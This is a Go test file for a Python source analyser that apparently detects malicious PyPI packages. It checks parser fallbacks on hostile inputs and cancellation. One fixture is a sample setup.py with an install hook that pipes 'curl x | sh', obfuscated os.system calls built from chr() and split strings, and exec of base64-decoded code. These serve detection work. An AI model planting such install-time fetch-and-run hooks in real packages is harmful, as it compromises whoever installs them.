package pyast

import (
	"slices"
	"strings"
	"testing"
	"time"

	sitter "github.com/tree-sitter/go-tree-sitter"

	"pypimal/internal/hostile"
)

// TestHostile analyses every hostile family and checks the path it takes:
// families the pre-scan must catch go to the fallback for that reason
// whatever the machine's speed, and the others are analysed from the tree
// within the budget (a timeout fallback fails the test). Short runs use
// the short sizes, except for the identifier that once hung a scan; full
// runs use the large sizes with a budget generous enough for shared CI.
func TestHostile(t *testing.T) {
	want := map[string]FallbackReason{
		"parens": FallbackNesting, "lists": FallbackNesting, "calls": FallbackNesting,
		"indentation": FallbackNesting, "function-defs": FallbackNesting,
		"nul-utf8-bom-crlf": FallbackLexErrors, "hostile-identifier": FallbackLexErrors,
		"invalid-chars": FallbackLexErrors, "error-tokens": FallbackLexErrors, "error-lines": FallbackLexErrors,
	}
	p, err := NewParser()
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	for _, fam := range hostile.Python() {
		t.Run(fam.Name, func(t *testing.T) {
			n, budget := fam.N, 30*time.Second
			if testing.Short() {
				n, budget = fam.Short, DefaultTimeout
			}
			src := fam.Gen(n)
			f, err := p.Analyze(src, Options{MaxBytes: extractMaxBytes, Timeout: budget})
			if err != nil {
				t.Fatalf("%d bytes: %v", len(src), err)
			}
			if f.Fallback != want[fam.Name] {
				t.Fatalf("%d bytes: fallback %q, want %q", len(src), f.Fallback, want[fam.Name])
			}
			switch fam.Name {
			case "hostile-identifier":
				if !slices.ContainsFunc(f.Imports, func(i Import) bool { return i.Module == "os" }) {
					t.Errorf("imports %v, want os", f.Imports)
				}
				if f.Obfuscation.ZeroWidthChars != n/2 || f.Obfuscation.BidiChars != n/2 {
					t.Errorf("zero-width %d, bidi %d, want %d each", f.Obfuscation.ZeroWidthChars, f.Obfuscation.BidiChars, n/2)
				}
			case "invalid-chars", "nul-utf8-bom-crlf":
				if !slices.ContainsFunc(f.Calls, func(c Call) bool { return c.Name == "os.system" }) {
					t.Errorf("no os.system call among %d", f.NumCalls)
				}
			case "chr-plus-chain":
				if !f.Truncated && f.Obfuscation.MaxChrChain != n+1 {
					t.Errorf("chr chain %d, want %d", f.Obfuscation.MaxChrChain, n+1)
				}
			case "string-assignments":
				if !f.Truncated && f.NumStrings != n {
					t.Errorf("%d strings, want %d", f.NumStrings, n)
				}
			}
		})
	}
}

// TestFallbackFacts checks what the linear fallback reports on ordinary
// code, against the tree analysis where both should agree.
func TestFallbackFacts(t *testing.T) {
	src := `"""Doc."""
import os, subprocess as sp
from base64 import b64decode as d
import importlib
from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        sp.Popen(['sh', '-c', "curl x | sh"])
        __import__("os").system(chr(105) + chr(100))
        getattr(os, "sys" "tem")("id")

@atexit.register
def hook(a, b=1, *c):
    exec(d("aW1wb3J0IG9z"))  # run it
    print "py2"
    x = os.popen("ls").read()
    importlib.import_module("socket")

setup(name="x", version="1", cmdclass={"install": Post}, **kw)
`
	p, err := NewParser()
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	tree, err := p.Analyze([]byte(src), Options{})
	if err != nil || tree.Fallback != "" {
		t.Fatalf("tree analysis: %v, fallback %q", err, tree.Fallback)
	}
	fb := p.fallback([]byte(src), File{Bytes: len(src), AnalyzedBytes: len(src)}, Options{}.withDefaults(), FallbackTimeout)
	if fb.Fallback != FallbackTimeout || !fb.HasError {
		t.Errorf("fallback %q, HasError %v", fb.Fallback, fb.HasError)
	}
	names := func(f *File) []string {
		var out []string
		for _, c := range f.Calls {
			out = append(out, c.Name)
		}
		slices.Sort(out)
		return out
	}
	if got, want := names(fb), names(tree); !slices.Equal(got, want) {
		t.Errorf("calls:\n fallback %q\n tree     %q", got, want)
	}
	mods := func(f *File) []string {
		var out []string
		for _, i := range f.Imports {
			out = append(out, i.Module)
		}
		slices.Sort(out)
		return out
	}
	if got, want := mods(fb), mods(tree); !slices.Equal(got, want) {
		t.Errorf("imports: fallback %q, tree %q", got, want)
	}
	tests := []struct {
		name      string
		got, want any
	}{
		{"strings", fb.NumStrings, tree.NumStrings},
		{"docstring", fb.Strings[0].Doc, true},
		{"comments", fb.Comments, tree.Comments},
		{"chr calls", fb.Obfuscation.ChrCalls, tree.Obfuscation.ChrCalls},
		{"chr chain", fb.Obfuscation.MaxChrChain, tree.Obfuscation.MaxChrChain},
		{"py2", fb.Py2Statements, tree.Py2Statements},
		{"functions", len(fb.Functions), len(tree.Functions)},
		{"method", fb.Classes[0].Methods, tree.Classes[0].Methods},
		{"bases", fb.Classes[0].Bases, tree.Classes[0].Bases},
		{"decorators", fb.Functions[1].Decorators, tree.Functions[1].Decorators},
		{"params", fb.Functions[1].Params, tree.Functions[1].Params},
		{"setup keywords", fb.SetupCalls[0].Keywords, tree.SetupCalls[0].Keywords},
		{"setup splat", fb.SetupCalls[0].KwSplat, tree.SetupCalls[0].KwSplat},
		{"cmdclass", fb.SetupCalls[0].CmdClass, tree.SetupCalls[0].CmdClass},
		{"top level", fb.Calls[len(fb.Calls)-1].TopLevel, true},
		{"scope", fb.Calls[0].Scope, tree.Calls[0].Scope},
	}
	for _, tc := range tests {
		if !equalAny(tc.got, tc.want) {
			t.Errorf("%s: fallback %v, tree %v", tc.name, tc.got, tc.want)
		}
	}
}

func equalAny(a, b any) bool {
	switch a := a.(type) {
	case []string:
		return slices.Equal(a, b.([]string))
	case []CmdClass:
		return slices.Equal(a, b.([]CmdClass))
	}
	return a == b
}

// TestCancelAnywhere cancels a parse at every progress callback in turn,
// balancing of the finished tree included (tree-sitter v0.25 leaves the
// parser unusable after a cancelled balance: the next parse aborted the
// process), and checks that each cancelled file goes to the fallback and
// the next file is parsed normally.
func TestCancelAnywhere(t *testing.T) {
	p, err := NewParser()
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	src := []byte(strings.Repeat("x = f(1, 'a')\nif x:\n    y = [x, x]\n", 300))
	calls := 0
	if _, err := p.parse(src, time.Time{}); err != nil {
		t.Fatal(err)
	}
	read := func(i int, _ sitter.Point) []byte { return src[min(i, len(src)):] }
	tree := p.sp.ParseWithOptions(read, nil, &sitter.ParseOptions{ProgressCallback: func(sitter.ParseState) bool { calls++; return false }})
	tree.Close()
	if calls < 10 {
		t.Fatalf("only %d progress callbacks", calls)
	}
	for k := 1; k <= calls+1; k++ {
		p.cancelAfter = k
		f, err := p.Analyze(src, Options{})
		p.cancelAfter = 0
		if err != nil {
			t.Fatalf("cancel at %d: %v", k, err)
		}
		if k <= calls && f.Fallback != FallbackTimeout {
			t.Fatalf("cancel at %d of %d: fallback %q", k, calls, f.Fallback)
		}
		g, err := p.Analyze([]byte("os.system('x')\n"), Options{})
		if err != nil || g.Fallback != "" || len(g.Calls) != 1 {
			t.Fatalf("after a cancel at %d: %v %+v", k, err, g)
		}
	}
}
